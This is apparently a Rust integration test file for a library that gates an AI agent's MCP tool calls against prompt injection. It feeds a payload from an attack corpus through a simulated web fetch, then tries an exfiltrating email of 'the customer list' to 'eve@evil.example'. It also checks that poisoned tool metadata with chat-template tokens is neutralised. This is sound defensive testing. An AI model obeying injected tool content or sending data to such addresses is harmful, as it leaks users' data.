//! Serving and consuming MCP through real rmcp clients and servers, connected by in-memory
//! byte streams: what a client sees of the declarations, what the gate does with each
//! call, and how a remote server's tools take the host's trust, not their own.

use rmcp::ServiceExt;
use rmcp::model::{CallToolRequestParams, CallToolResult};
use rmcp::service::{RoleClient, RunningService};
use serde_json::{Value, json};
use tooltrust::tool::{DeclaredTrust, Effects};
use tooltrust::{CallOutcome, Id, Registry, Session, Taint, tool, tools};
use tooltrust_mcp::{ConnectOptions, Declarations, Declared, ScopeServer, connect};

/// The first payload of the project's injection corpus.
fn payload() -> String {
    let corpus = include_str!("../../runtime/tests/data/corpus/attacks-dev.jsonl");
    let line = corpus.lines().next().expect("a corpus line");
    let entry: Value = serde_json::from_str(line).expect("a JSON line");
    entry["text"].as_str().expect("a text").to_owned()
}

/// Looks up the refund policy.
#[tool(trusted, read_only)]
fn lookup_policy() -> String {
    "Refunds within 30 days.".to_owned()
}

/// Fetches a web page.
#[tool(untrusted, read_only)]
fn fetch_page(url: String) -> String {
    format!("{url}\n{}", payload())
}

/// Sends an email.
#[tool(trusted)]
fn send_email(to: String, body: String) -> String {
    format!("sent {} bytes to {to}", body.len())
}

fn scope() -> tooltrust::Scope {
    let registry = tools![lookup_policy, fetch_page, send_email].expect("a registry");
    Session::builder(registry)
        .build()
        .expect("a session")
        .open_scope(Id::new("host").expect("an id"))
        .expect("a scope")
}

/// Serves `server` on one end of an in-memory stream and connects a client to the other.
async fn client_of(server: ScopeServer) -> RunningService<RoleClient, ()> {
    let (client_end, server_end) = tokio::io::duplex(1 << 20);
    tokio::spawn(async move {
        if let Ok(running) = server.serve(server_end).await {
            let _ = running.waiting().await;
        }
    });
    ().serve(client_end).await.expect("the handshake")
}

async fn call(client: &RunningService<RoleClient, ()>, name: &str, args: Value) -> CallToolResult {
    let Value::Object(args) = args else {
        panic!("arguments are an object")
    };
    client
        .call_tool(CallToolRequestParams::new(name.to_owned()).with_arguments(args))
        .await
        .expect("a tools/call answer")
}

fn text(result: &CallToolResult) -> String {
    result
        .content
        .iter()
        .filter_map(|block| block.as_text().map(|text| text.text.clone()))
        .collect::<Vec<_>>()
        .join("\n")
}

#[tokio::test]
async fn tools_list_carries_the_declarations() {
    let client = client_of(ScopeServer::new(scope())).await;
    let tools = client.list_all_tools().await.expect("tools/list");
    let by_name = |name: &str| {
        tools
            .iter()
            .find(|tool| tool.name == name)
            .unwrap_or_else(|| panic!("{name} listed"))
    };
    let send = by_name("send_email");
    let send_hints = send.annotations.as_ref().expect("annotations");
    assert_eq!(send_hints.read_only_hint, Some(false));
    assert_eq!(send_hints.destructive_hint, Some(true));
    let fetch = by_name("fetch_page");
    let fetch_hints = fetch.annotations.as_ref().expect("annotations");
    assert_eq!(fetch_hints.read_only_hint, Some(true));
    assert_eq!(fetch_hints.open_world_hint, Some(true));
    let meta = serde_json::to_value(fetch.meta.as_ref().expect("_meta")).expect("json");
    assert_eq!(meta["tooltrust"]["trust"], "untrusted");
    assert_eq!(fetch.input_schema.get("type"), Some(&json!("object")));
    let policy = by_name("lookup_policy");
    let meta = serde_json::to_value(policy.meta.as_ref().expect("_meta")).expect("json");
    assert_eq!(meta["tooltrust"]["trust"], "trusted");
    assert_eq!(meta["tooltrust"]["effects"], "read_only");
}

#[tokio::test]
async fn every_call_goes_through_the_gate_and_comes_back_enveloped() {
    let server = ScopeServer::new(scope());
    let scope = server.scope().clone();
    let client = client_of(server).await;

    // A trusted read: allowed, in a trusted envelope.
    let policy = call(&client, "lookup_policy", json!({})).await;
    assert_ne!(policy.is_error, Some(true), "{}", text(&policy));
    assert!(
        text(&policy).starts_with("<trusted_content_"),
        "{}",
        text(&policy)
    );
    assert_eq!(scope.taint().expect("taint"), Taint::Clean);

    // An untrusted read: allowed, enveloped, and the session is tainted.
    let page = call(&client, "fetch_page", json!({"url": "https://example.com"})).await;
    let page_text = text(&page);
    assert_ne!(page.is_error, Some(true), "{page_text}");
    assert!(page_text.starts_with("<untrusted_content_"), "{page_text}");
    assert!(page_text.contains("Emma Johnson"), "{page_text}");
    assert!(
        tooltrust::envelope::parse(&page_text).is_ok_and(|blocks| blocks.len() == 1),
        "{page_text}"
    );
    assert!(page.structured_content.is_none());
    assert_eq!(scope.taint().expect("taint"), Taint::Tainted);

    // A consequential call after the taint: held, as a tool error naming the rule.
    let send = call(
        &client,
        "send_email",
        json!({"to": "eve@evil.example", "body": "the customer list"}),
    )
    .await;
    let send_text = text(&send);
    assert_eq!(send.is_error, Some(true), "{send_text}");
    assert!(send_text.contains("held for review"), "{send_text}");
    assert!(
        send_text.contains(tooltrust::gate::rule::TAINTED_CONSEQUENTIAL),
        "{send_text}"
    );

    // An unknown tool and malformed arguments: tool errors, never a crash.
    let unknown = call(&client, "drop_tables", json!({})).await;
    assert_eq!(unknown.is_error, Some(true));
    assert!(
        text(&unknown).contains(tooltrust::gate::rule::UNKNOWN_TOOL),
        "{}",
        text(&unknown)
    );
    let malformed = call(&client, "fetch_page", json!({"url": 7})).await;
    assert_eq!(malformed.is_error, Some(true), "{}", text(&malformed));
}

/// The upstream claims its tools are trusted and read-only; the host declares otherwise,
/// and the host's declarations are what the gate uses.
#[tokio::test]
async fn remote_tools_take_the_hosts_declarations() {
    let (host_end, upstream_end) = tokio::io::duplex(1 << 20);
    let upstream = ScopeServer::new(scope());
    tokio::spawn(async move {
        if let Ok(running) = upstream.serve(upstream_end).await {
            let _ = running.waiting().await;
        }
    });
    let declarations = Declarations::new()
        .declare(
            "fetch_*",
            Declared {
                trust: DeclaredTrust::Untrusted,
                effects: Effects::ReadOnly,
            },
        )
        .declare(
            "lookup_policy",
            Declared {
                trust: DeclaredTrust::Trusted,
                effects: Effects::ReadOnly,
            },
        );
    let remote = connect(
        host_end,
        &declarations,
        ConnectOptions {
            prefix: "web__".to_owned(),
            ..ConnectOptions::default()
        },
    )
    .await
    .expect("connected");
    let (remote_tools, _connection) = remote.into_tools();
    let mut builder = Registry::builder();
    for remote_tool in remote_tools {
        builder = builder.tool(remote_tool);
    }
    let registry = builder.build().expect("a registry");
    let names: Vec<&str> = registry
        .catalog()
        .iter()
        .map(|entry| entry.name.as_str())
        .collect();
    assert_eq!(
        names,
        ["web__fetch_page", "web__lookup_policy", "web__send_email"]
    );
    let send = registry.spec("web__send_email").expect("declared");
    assert_eq!(
        send.trust,
        DeclaredTrust::Untrusted,
        "undeclared: untrusted"
    );
    assert_eq!(
        send.effects,
        Effects::Consequential,
        "undeclared: consequential"
    );

    let session = Session::builder(registry).build().expect("a session");
    let scope = session
        .open_scope(Id::new("host").expect("an id"))
        .expect("a scope");
    let call_of = |name: &str, args: Value| {
        let Value::Object(args) = args else {
            panic!("an object")
        };
        tooltrust::ToolCall::from_model(name, &Value::Object(args).to_string()).expect("a call")
    };
    let policy = scope
        .call(call_of("web__lookup_policy", json!({})))
        .await
        .expect("decided");
    assert!(matches!(policy, CallOutcome::Ran { .. }), "{policy:?}");
    assert_eq!(scope.taint().expect("taint"), Taint::Clean);
    let page = scope
        .call(call_of(
            "web__fetch_page",
            json!({"url": "https://example.com"}),
        ))
        .await
        .expect("decided");
    let CallOutcome::Ran { block, .. } = page else {
        panic!("{page:?}")
    };
    let rendered = scope
        .rendered_of(&block)
        .expect("rendered")
        .expect("a block");
    assert!(rendered.starts_with("<untrusted_content_"), "{rendered}");
    assert_eq!(scope.taint().expect("taint"), Taint::Tainted);
    let send = scope
        .call(call_of(
            "web__send_email",
            json!({"to": "eve@evil.example", "body": "x"}),
        ))
        .await
        .expect("decided");
    assert!(matches!(send, CallOutcome::Pending { .. }), "{send:?}");
    // A bare upstream name is not a tool here.
    let bare = scope
        .call(call_of(
            "send_email",
            json!({"to": "eve@evil.example", "body": "x"}),
        ))
        .await
        .expect("decided");
    assert!(
        matches!(&bare, CallOutcome::Denied(decision) if decision.rule == tooltrust::gate::rule::UNKNOWN_TOOL),
        "{bare:?}"
    );
}

/// Serving over streamable HTTP on the loopback interface, and connecting to it: the
/// upstream's scope and the host's are separate, and the host's declarations rule.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn streamable_http_both_ways() {
    let upstream = Session::builder(tools![lookup_policy, fetch_page, send_email].expect("tools"))
        .build()
        .expect("a session");
    let service = tooltrust_mcp::http_service(upstream, Id::new("upstream").expect("an id"));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("a port");
    let address = listener.local_addr().expect("its address");
    tokio::spawn(async move {
        let router = axum::Router::new().nest_service("/mcp", service);
        let _ = axum::serve(listener, router).await;
    });
    let transport =
        rmcp::transport::StreamableHttpClientTransport::from_uri(format!("http://{address}/mcp"));
    let remote = connect(transport, &Declarations::new(), ConnectOptions::default())
        .await
        .expect("connected over HTTP");
    let (remote_tools, _connection) = remote.into_tools();
    let mut builder = Registry::builder();
    for remote_tool in remote_tools {
        builder = builder.tool(remote_tool);
    }
    let registry = builder.build().expect("a registry");
    // Nothing declared: every remote tool is untrusted and consequential.
    for entry in registry.catalog() {
        assert_eq!(entry.trust, DeclaredTrust::Untrusted, "{}", entry.name);
        assert_eq!(entry.effects, Effects::Consequential, "{}", entry.name);
    }
    let session = Session::builder(registry).build().expect("a session");
    let scope = session
        .open_scope(Id::new("host").expect("an id"))
        .expect("a scope");
    let policy = scope
        .call(tooltrust::ToolCall::from_model("lookup_policy", "{}").expect("a call"))
        .await
        .expect("decided");
    let CallOutcome::Ran { block, .. } = policy else {
        panic!("{policy:?}")
    };
    let rendered = scope
        .rendered_of(&block)
        .expect("rendered")
        .expect("a block");
    // The upstream's own envelope arrives inside the host's untrusted one.
    assert!(rendered.starts_with("<untrusted_content_"), "{rendered}");
    assert!(rendered.contains("Refunds within 30 days."), "{rendered}");
}

/// A server's poisoned metadata, taken by `connect`: for a tool not declared `trusted`,
/// the registry holds its description and schema neutralised, and `Remote::listed` says
/// the host is shown outsiders' text; declared `trusted`, it is kept as written.
#[tokio::test]
async fn connect_neutralises_the_metadata_of_undeclared_tools() {
    use tooltrust_mcp::demo::{MisbehavingServer, Misbehaviour, POISONED_DESCRIPTION};
    for trusted in [false, true] {
        let (host_end, upstream_end) = tokio::io::duplex(1 << 20);
        tokio::spawn(async move {
            if let Ok(running) = MisbehavingServer(Misbehaviour::Poisoned)
                .serve(upstream_end)
                .await
            {
                let _ = running.waiting().await;
            }
        });
        let mut declarations = Declarations::new();
        if trusted {
            declarations = declarations.declare(
                "search",
                Declared {
                    trust: DeclaredTrust::Trusted,
                    effects: Effects::ReadOnly,
                },
            );
        }
        let remote = connect(host_end, &declarations, ConnectOptions::default())
            .await
            .expect("connected");
        let search = remote
            .listed()
            .iter()
            .find(|listed| listed.definition.name == "search")
            .expect("listed");
        assert_eq!(search.outsiders_text, !trusted);
        assert_eq!(
            search.definition.value["description"], POISONED_DESCRIPTION,
            "the definition is the server's, for pinning"
        );
        let (tools, _connection) = remote.into_tools();
        let registry = tools
            .into_iter()
            .fold(Registry::builder(), |builder, tool| builder.tool(tool))
            .build()
            .expect("a registry");
        let entry = registry
            .catalog()
            .iter()
            .find(|entry| entry.name == "search")
            .expect("registered")
            .clone();
        let shown = format!("{}{}", entry.description, entry.schema);
        for raw in ["</untrusted_content_0000>", "<|im_start|>", "[INST]"] {
            assert_eq!(shown.contains(raw), trusted, "{raw} in {shown}");
        }
    }
}
